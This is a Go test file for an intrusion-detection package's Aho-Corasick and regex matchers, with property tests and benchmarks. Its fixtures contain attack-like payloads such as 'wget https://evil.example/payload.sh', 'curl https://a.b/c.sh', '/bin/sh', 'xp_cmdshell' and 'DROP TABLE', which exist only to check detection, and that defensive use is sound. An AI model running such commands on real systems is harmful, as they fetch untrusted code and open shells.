package ids

import (
	"regexp"
	"strings"
	"testing"
	"testing/quick"

	"nba/internal/apps/apptest"
	"nba/internal/batch"
	"nba/internal/element"
	"nba/internal/packet"
	"nba/internal/rng"
)

func TestACBasicMatching(t *testing.T) {
	ac, err := BuildAC([]string{"he", "she", "his", "hers"})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		in   string
		want int
	}{
		{"ushers", 0}, // "he" (id 0) inside "ushers"
		{"this", 2},
		{"xyz", -1},
		{"she", 0}, // both "she" and "he" end; lowest id wins
		{"hi his", 2},
	}
	for _, c := range cases {
		if got := ac.Match([]byte(c.in)); got != c.want {
			t.Errorf("Match(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestACScanOccurrences(t *testing.T) {
	ac, _ := BuildAC([]string{"ab", "b"})
	var hits [][2]int
	ac.Scan([]byte("abab"), func(id, end int) bool {
		hits = append(hits, [2]int{id, end})
		return true
	})
	// Occurrences: ab@2, b@2, ab@4, b@4.
	if len(hits) != 4 {
		t.Fatalf("hits = %v, want 4 occurrences", hits)
	}
	// Early termination.
	count := 0
	ac.Scan([]byte("abab"), func(id, end int) bool {
		count++
		return false
	})
	if count != 1 {
		t.Errorf("Scan continued after visit returned false")
	}
}

func TestACOverlappingSuffixPatterns(t *testing.T) {
	ac, _ := BuildAC([]string{"aaa", "aa"})
	found := map[int]bool{}
	ac.Scan([]byte("aaaa"), func(id, end int) bool {
		found[id] = true
		return true
	})
	if !found[0] || !found[1] {
		t.Errorf("suffix pattern missed: found=%v", found)
	}
}

func TestACMatchesNaiveProperty(t *testing.T) {
	patterns := []string{"abc", "bca", "cab", "aa", "bb", "abcabc", "ca"}
	ac, err := BuildAC(patterns)
	if err != nil {
		t.Fatal(err)
	}
	f := func(data []byte) bool {
		// Restrict the alphabet so matches actually occur.
		for i := range data {
			data[i] = 'a' + data[i]%3
		}
		return ac.Match(data) == NaiveMatch(patterns, data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

func TestACBuildErrors(t *testing.T) {
	if _, err := BuildAC(nil); err == nil {
		t.Error("empty pattern set accepted")
	}
	if _, err := BuildAC([]string{"ok", ""}); err == nil {
		t.Error("empty pattern accepted")
	}
}

func TestDefaultSignaturesCompile(t *testing.T) {
	ac, err := BuildAC(DefaultSignatures)
	if err != nil {
		t.Fatal(err)
	}
	if ac.States() < len(DefaultSignatures) {
		t.Errorf("suspiciously small automaton: %d states", ac.States())
	}
	if got := ac.Match([]byte("GET /x HTTP/1.1\r\nagent: sqlmap /bin/sh here")); got == -1 {
		t.Error("known signature not found")
	}
}

func TestRegexParserErrors(t *testing.T) {
	bad := []string{"(", ")", "a(b", "[", "[]", "[z-a]", "*a", "+", "a\\", `a\q`, "[a\\"}
	for _, p := range bad {
		if _, err := ParseRegex(p); err == nil {
			t.Errorf("ParseRegex(%q) succeeded, want error", p)
		}
	}
}

func TestDFAAgainstStdlibProperty(t *testing.T) {
	// Our DFA scans for a match anywhere, i.e. stdlib semantics of an
	// unanchored MatchString. Compare across a pattern corpus and random
	// inputs over a small alphabet.
	patterns := []string{
		`abc`,
		`a+b`,
		`ab*c`,
		`a?bc`,
		`(ab|cd)+`,
		`[a-c]+d`,
		`[^a]bc`,
		`a.c`,
		`(a|b)(c|d)`,
		`ab(cd)*ef`,
	}
	for _, pat := range patterns {
		d, err := CompileRules([]string{pat})
		if err != nil {
			t.Fatalf("CompileRules(%q): %v", pat, err)
		}
		std := regexp.MustCompile(pat)
		f := func(raw []byte) bool {
			data := make([]byte, len(raw))
			for i := range raw {
				data[i] = "abcdef"[raw[i]%6]
			}
			got := d.Match(data) >= 0
			want := std.Match(data)
			return got == want
		}
		if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
			t.Errorf("pattern %q: %v", pat, err)
		}
	}
}

func TestDFAMultiRuleLowestID(t *testing.T) {
	d, err := CompileRules([]string{"zzz", "ab", "b"})
	if err != nil {
		t.Fatal(err)
	}
	if got := d.Match([]byte("xxabxx")); got != 1 {
		t.Errorf("Match = %d, want 1 (lowest matching rule)", got)
	}
	if got := d.Match([]byte("xbx")); got != 2 {
		t.Errorf("Match = %d, want 2", got)
	}
	if got := d.Match([]byte("xxx")); got != -1 {
		t.Errorf("Match = %d, want -1", got)
	}
}

func TestDFAClassesAndEscapes(t *testing.T) {
	d, err := CompileRules([]string{`\d+\.\d+`, `[a-f]+[0-9]`, `a\tb`})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		in   string
		want int
	}{
		{"version 10.25 ok", 0},
		{"deadbeef7", 1},
		{"a\tb", 2},
		{"nothing", -1},
	}
	for _, c := range cases {
		if got := d.Match([]byte(c.in)); got != c.want {
			t.Errorf("Match(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestDefaultRegexRulesCompile(t *testing.T) {
	d, err := CompileRules(DefaultRegexRules)
	if err != nil {
		t.Fatal(err)
	}
	if got := d.Match([]byte("GET /index.php?id=42 HTTP/1.1")); got != 0 {
		t.Errorf("rule 0 not matched: got %d", got)
	}
	if got := d.Match([]byte("wget https://evil.example/payload.sh")); got != 4 {
		t.Errorf("rule 4 not matched: got %d", got)
	}
}

func TestCompileRulesErrors(t *testing.T) {
	if _, err := CompileRules(nil); err == nil {
		t.Error("empty rule set accepted")
	}
	if _, err := CompileRules([]string{"("}); err == nil {
		t.Error("bad rule accepted")
	}
}

func mkPayloadPkt(t *testing.T, payload string) *packet.Packet {
	t.Helper()
	p := &packet.Packet{}
	frameLen := packet.EthHdrLen + packet.IPv4HdrLen + packet.UDPHdrLen + len(payload)
	n := packet.BuildUDP4(p.Buf(), [6]byte{2}, [6]byte{4}, 1, 2, 3, 4, frameLen)
	p.SetLength(n)
	copy(p.Buf()[packet.EthHdrLen+packet.IPv4HdrLen+packet.UDPHdrLen:], payload)
	return p
}

func elemCtx() (*element.ConfigContext, *element.ProcContext) {
	nl := element.NewNodeLocal()
	return &element.ConfigContext{NodeLocal: nl, NumPorts: 4, Rand: rng.New(1)},
		&element.ProcContext{NodeLocal: nl, Rand: rng.New(2), CostScale: 1}
}

// newMatch instantiates one of the two registered matcher classes.
func newMatch(t *testing.T, class string) *Match {
	t.Helper()
	e, err := element.NewByClass(class)
	if err != nil {
		t.Fatal(err)
	}
	return e.(*Match)
}

func TestMatchACElementAlertAndDrop(t *testing.T) {
	cc, pc := elemCtx()
	e := newMatch(t, "IDSMatchAC")
	if err := e.Configure(cc, nil); err != nil {
		t.Fatal(err)
	}
	clean := mkPayloadPkt(t, "totally benign content here")
	if r := apptest.RunOne(e, pc, clean); r != 0 || clean.Anno[packet.AnnoMatchResult] != 0 {
		t.Error("clean packet flagged")
	}
	evil := mkPayloadPkt(t, "try /bin/sh now")
	if r := apptest.RunOne(e, pc, evil); r != 0 {
		t.Error("alert mode dropped packet")
	}
	if evil.Anno[packet.AnnoMatchResult] == 0 {
		t.Error("match annotation not set")
	}

	drop := newMatch(t, "IDSMatchAC")
	if err := drop.Configure(cc, []string{"drop"}); err != nil {
		t.Fatal(err)
	}
	evil2 := mkPayloadPkt(t, "try /bin/sh now")
	if r := apptest.RunOne(drop, pc, evil2); r != element.Drop {
		t.Error("drop mode did not drop")
	}
}

func TestMatchREElement(t *testing.T) {
	cc, pc := elemCtx()
	e := newMatch(t, "IDSMatchRE")
	if err := e.Configure(cc, []string{"alert"}); err != nil {
		t.Fatal(err)
	}
	evil := mkPayloadPkt(t, "GET /a.php?id=123")
	if apptest.RunOne(e, pc, evil); evil.Anno[packet.AnnoMatchResult] == 0 {
		t.Error("regex match annotation not set")
	}
	// Regex IDs sit above the signature ID space.
	if evil.Anno[packet.AnnoMatchResult] <= uint64(len(DefaultSignatures)) {
		t.Error("regex annotation overlaps AC ID space")
	}
}

func TestElementConfigErrors(t *testing.T) {
	cc, _ := elemCtx()
	if err := newMatch(t, "IDSMatchAC").Configure(cc, []string{"explode"}); err == nil {
		t.Error("bad mode accepted")
	}
	if err := newMatch(t, "IDSMatchRE").Configure(cc, []string{"explode"}); err == nil {
		t.Error("bad mode accepted")
	}
}

func TestElementsShareCompiledAutomata(t *testing.T) {
	cc, _ := elemCtx()
	a, b := newMatch(t, "IDSMatchAC"), newMatch(t, "IDSMatchAC")
	a.Configure(cc, nil)
	b.Configure(cc, nil)
	if a.table == nil || a.table != b.table {
		t.Error("AC automaton rebuilt per replica")
	}
}

// TestCPUAndGPUPathsAgree: the CPU and the device run the one kernel, so the
// check that is left is that it is right: for both matchers in both modes it
// leaves every packet with the annotation and, in drop mode, exactly the slots with ResultDrop that the references
// sharing no code with it say (NaiveMatch, stdlib regexp). The batch mixes
// sizes (so groups have ragged tails), has masked slots and ends in a partial
// group.
func TestCPUAndGPUPathsAgree(t *testing.T) {
	payloads := []string{
		"innocuous", "/bin/sh", "xp_cmdshell", "fine", "DROP TABLE students",
		"GET /a.php?id=123", strings.Repeat("x", 1000) + "wget http://evil", "",
		strings.Repeat("y", 400) + "admin:hunter2@" + strings.Repeat("y", 400), "curl  https://a.b/c.sh",
		"uid=0(root)", strings.Repeat("z", 1400), "session=QUJD==", "ok",
	}
	masked := map[int]bool{0: true, 6: true, 13: true}
	var std []*regexp.Regexp
	for _, r := range DefaultRegexRules {
		std = append(std, regexp.MustCompile(r))
	}
	for _, c := range []struct {
		name string
		// anno is the annotation the reference expects for a scan region.
		anno func(data []byte) uint64
	}{
		{"IDSMatchAC", func(data []byte) uint64 { return uint64(NaiveMatch(DefaultSignatures, data) + 1) }},
		{"IDSMatchRE", func(data []byte) uint64 {
			if id := lowestRule(std, data); id >= 0 {
				return uint64(id + 1 + len(DefaultSignatures))
			}
			return 0
		}},
	} {
		for _, mode := range []string{"alert", "drop"} {
			cc, pc := elemCtx()
			e := newMatch(t, c.name)
			if err := e.Configure(cc, []string{mode}); err != nil {
				t.Fatal(err)
			}
			var bt batch.Batch
			for i, pl := range payloads {
				bt.Add(mkPayloadPkt(t, pl))
				if masked[i] {
					bt.Mask(i)
				}
			}
			e.Kernel(pc, &bt)
			var matches uint64
			for i, pl := range payloads {
				got := bt.Packet(i)
				if masked[i] {
					if got.Anno[packet.AnnoMatchResult] != 0 || bt.Result(i) != 0 {
						t.Errorf("%s %s: masked slot %d touched", c.name, mode, i)
					}
					continue
				}
				want := c.anno(payloadOf(got))
				if got.Anno[packet.AnnoMatchResult] != want {
					t.Errorf("%s %s payload %.20q: anno %d, reference %d", c.name, mode, pl,
						got.Anno[packet.AnnoMatchResult], want)
				}
				wantRes := 0
				if want != 0 {
					matches++
					if mode == "drop" {
						wantRes = batch.ResultDrop
					}
				}
				if bt.Result(i) != wantRes {
					t.Errorf("%s %s payload %.20q: result %d, reference %d", c.name, mode, pl, bt.Result(i), wantRes)
				}
			}
			if matches == 0 {
				t.Errorf("%s %s: the reference matched no payload; the test needs some", c.name, mode)
			}
		}
	}
}

func TestStringsHelperCoverage(t *testing.T) {
	if !containsStr("hello", "") || !containsStr("hello", "ell") || containsStr("hi", "hello") {
		t.Error("containsStr wrong")
	}
	if !strings.Contains(DefaultSignatures[0], "/") {
		t.Error("unexpected signature content")
	}
}

// fillLower fills data with random lowercase letters, the generators'
// filler alphabet (no built-in rule matches it).
func fillLower(r *rng.Rand, data []byte) {
	for i := range data {
		data[i] = 'a' + byte(r.Uint64()%26)
	}
}

func BenchmarkACScan1500(b *testing.B) {
	ac, _ := BuildAC(DefaultSignatures)
	data := make([]byte, 1500)
	fillLower(rng.New(1), data)
	b.SetBytes(1500)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ac.Match(data)
	}
}

func BenchmarkDFAScan1500(b *testing.B) {
	d, err := CompileRules(DefaultRegexRules)
	if err != nil {
		b.Fatal(err)
	}
	data := make([]byte, 1500)
	fillLower(rng.New(1), data)
	b.SetBytes(1500)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d.Match(data)
	}
}

// BenchmarkScanBatch64x1024 is the device-side form: 64 live 1024 B frames
// through both batch kernels, as one ids-1024B-gpu aggregate member sees it.
func BenchmarkScanBatch64x1024(b *testing.B) {
	ac, _ := BuildAC(DefaultSignatures)
	d, err := CompileRules(DefaultRegexRules)
	if err != nil {
		b.Fatal(err)
	}
	var bt batch.Batch
	r := rng.New(1)
	for i := 0; i < 64; i++ {
		p := &packet.Packet{}
		p.SetLength(1024)
		fillLower(r, p.Data())
		bt.Add(p)
	}
	var ids [batch.MaxBatchSize]int32
	for _, k := range []struct {
		name string
		t    *scanTable
	}{{"AC", &ac.scanTable}, {"DFA", &d.scanTable}} {
		b.Run(k.name, func(b *testing.B) {
			b.SetBytes(64 * (1024 - packet.EthHdrLen))
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				k.t.matchBatch(&bt, &ids)
			}
		})
	}
}
